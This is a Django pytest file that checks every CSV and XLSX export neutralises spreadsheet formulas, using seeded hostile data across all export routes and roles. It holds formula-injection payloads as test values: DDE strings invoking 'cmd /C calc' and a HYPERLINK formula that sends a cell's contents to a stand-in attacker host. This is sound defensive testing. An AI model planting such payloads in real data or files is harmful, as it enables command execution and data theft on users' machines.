"""Every CSV and XLSX the app produces goes through the one writer that neutralises
formulas: this walks every export URL in the URL configuration (found by its route, not
listed by hand) as every role, with hostile titles and names in the data, and checks
every cell of every file that comes back."""

from __future__ import annotations

import csv
import io
import re

import pytest
from django.urls import URLPattern, URLResolver, get_resolver
from openpyxl import load_workbook

from iop.audit import AuditContext
from iop.spreadsheets.registry import datasets
from participants.access import record_access
from participants.models import AccessLog
from partnerships.models import Agreement, Organisation
from tests.factories.participants import enrolled
from tests.factories.partnerships import ContactPersonFactory
from tests.io_helpers import io_settings  # noqa: F401 - autouse fixture

pytestmark = pytest.mark.django_db

TRIGGERS = ("=", "+", "-", "@", "\t", "\r")
NEGATIVE_NUMBER = re.compile(r"-\d[\d \u00a0\u202f]*(?:[.,]\d+)?")
TITLE = '=HYPERLINK("http://angripare.invalid/?"&A1;"Klicka")'
ORGANISATION = "=1+cmd|' /C calc'!A0"
CONTACT_TITLES = [f"{prefix}SUM(1;2)" for prefix in TRIGGERS]
WHAT = "@SUM(1+1)*cmd|' /C calc'!A0"
FILE_TYPES = ("text/csv", "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet")


def _routes(patterns, prefix=""):
    for pattern in patterns:
        if isinstance(pattern, URLResolver):
            namespace = f"{pattern.namespace}:" if pattern.namespace else ""
            for route, name in _routes(pattern.url_patterns, prefix + str(pattern.pattern)):
                yield route, namespace + name if name and ":" not in name else name
        elif isinstance(pattern, URLPattern):
            yield prefix + str(pattern.pattern), pattern.name


def export_routes() -> list[str]:
    """Every route that downloads a spreadsheet: csv, xlsx, export or template in its path
    (PDF and JSON are other tests' business)."""
    found = []
    for route, _name in _routes(get_resolver().url_patterns):
        if re.search(r"csv|xlsx|export|template", route) and not route.endswith((".pdf", ".json")):
            found.append(route)
    return found


def _urls(route: str, world) -> list[str]:
    values = {
        "agreement_id": [world.agreement_a.pk],
        "kind": list(datasets()),
        **getattr(world, "network_ids", {}),
    }
    urls = ["/" + route]
    for name, choices in values.items():
        token = re.compile(r"<(?:\w+:)?" + name + ">")
        if token.search(route):
            urls = [token.sub(str(choice), url) for url in urls for choice in choices]
    assert not any("<" in url for url in urls), f"no value for a parameter of {route}"
    if "export" in route or "template" in route:
        urls = [f"{url}?format={f}" for url in urls for f in ("csv", "xlsx")]
    return urls


def _cells(response) -> list[str]:
    body = (
        b"".join(response.streaming_content)
        if getattr(response, "streaming", False)
        else response.content
    )
    if response["Content-Type"].startswith("text/csv"):
        return [
            c
            for row in csv.reader(io.StringIO(body.decode("utf-8-sig")), delimiter=";")
            for c in row
        ]
    cells = []
    for sheet in load_workbook(io.BytesIO(body)).worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                assert cell.data_type != "f", (cell.coordinate, cell.value)
                if isinstance(cell.value, str):
                    cells.append(cell.value)
    return cells


@pytest.fixture
def hostile(world):
    Agreement.objects.filter(pk=world.agreement_a.pk).update(title=TITLE)
    Organisation.objects.filter(pk=world.org_a.pk).update(name=ORGANISATION)
    for number, title in enumerate(CONTACT_TITLES):
        ContactPersonFactory(organisation=world.org_a, name=f"Kontakt {number}", title=title)
    enrolment = enrolled(world.agreement_a, world.org_a)
    record_access(
        user=world.coordinator_a,
        audit=AuditContext(organisation_id=world.org_a.pk, address="127.0.0.1"),
        participants=[enrolment.participant],
        action=AccessLog.Action.VIEW,
        what=WHAT,
    )
    world.network_ids = _hostile_network(world)
    return world


NETWORK_DIMENSION = '=HYPERLINK("http://example.invalid")'


def _hostile_network(world) -> dict[str, list[int]]:
    """A statistics network whose coordinator named a dimension like a formula."""
    from reporting.actions_network import publish_report
    from reporting.models import NetworkForm
    from tests.factories.network import make_network, submit

    network = make_network(3, coordinator_org=world.org_a, coordinator=world.manager_a)
    dimensions = network.form.dimensions
    dimensions[0]["label"] = NETWORK_DIMENSION
    NetworkForm.objects.filter(pk=network.form.pk).update(dimensions=dimensions)
    network.form.refresh_from_db()
    for i in range(3):
        submit(network, i, 10 + i)
    publish_report(form=network.form, user=world.manager_a, audit=AuditContext.system())
    return {
        "network_id": [network.network.pk],
        "form_id": [network.form.pk],
        "network_member_id": [network.members[0].pk],
    }


def test_the_walk_finds_the_exports():
    routes = export_routes()
    assert "dashboards/csv/" in routes
    assert "dashboards/<int:agreement_id>/csv/" in routes
    assert "participants/access-log/export.csv" in routes
    assert "io/<slug:kind>/export/" in routes


def test_every_cell_of_every_export_is_neutralised(hostile, client):
    seen: set[str] = set()
    files = 0
    roles = ["admin", "manager_a", "coordinator_a", "finance_a", "steering_a"]
    for route in export_routes():
        for url in _urls(route, hostile):
            for role in roles:
                client.force_login(getattr(hostile, role))
                response = client.get(url)
                if response.status_code != 200 or not response["Content-Type"].startswith(
                    FILE_TYPES
                ):
                    continue
                files += 1
                for cell in _cells(response):
                    dangerous = cell.startswith(TRIGGERS) and not NEGATIVE_NUMBER.fullmatch(cell)
                    assert not dangerous, (url, role, cell)
                    if cell.startswith("'"):
                        seen.add(cell[1:])
    assert files > 20
    # The hostile values were really in the files (neutralised), not merely absent.
    assert TITLE in seen  # the steering group's dashboard CSV
    assert ORGANISATION in seen  # the access-log export and the organisation exports
    assert WHAT in seen  # the access-log export
    assert set(CONTACT_TITLES) <= seen  # the dataset exports, CSV and XLSX
    assert NETWORK_DIMENSION in seen  # the statistics network's national report
